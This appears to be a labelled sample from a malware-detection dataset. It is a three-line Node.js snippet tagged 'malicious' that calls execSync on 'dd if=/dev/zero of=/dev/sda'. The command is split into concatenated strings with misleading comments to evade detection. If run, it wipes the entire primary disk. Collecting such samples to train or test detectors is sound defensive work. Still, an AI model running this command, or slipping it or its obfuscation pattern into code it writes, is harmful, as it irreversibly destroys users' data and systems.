// label: malicious; obfuscated: comments,concat
const cp = require("child_process"); /* util */
cp.execSync(/* cmd */ "dd if=/dev/zero " + /* target */ "of=/dev/sda");
